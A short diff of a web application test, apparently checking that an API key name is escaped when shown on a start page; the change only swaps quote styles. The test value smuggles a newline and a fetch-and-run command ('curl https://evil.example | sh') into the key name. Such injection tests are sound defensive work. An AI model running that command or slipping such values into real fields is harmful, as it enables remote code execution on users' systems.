@@ -232,7 +232,7 @@ describe("isolation and secrecy", () => {
     await b.submit("/hub/keys", { name: "placeholder" });
     await t.h.db.update(apiKeys).set({ name: 'x"\ncurl https://evil.example | sh\n#' }).where(eq(apiKeys.userId, userId));
     const { html } = await b.page("/hub/start");
-    expect(html).toContain('you created &quot;x&quot; curl https://evil.example | sh #&quot;');
+    expect(html).toContain("you created &quot;x&quot; curl https://evil.example | sh #&quot;");
     expect(html).not.toContain("\ncurl https://evil.example");
   });
 
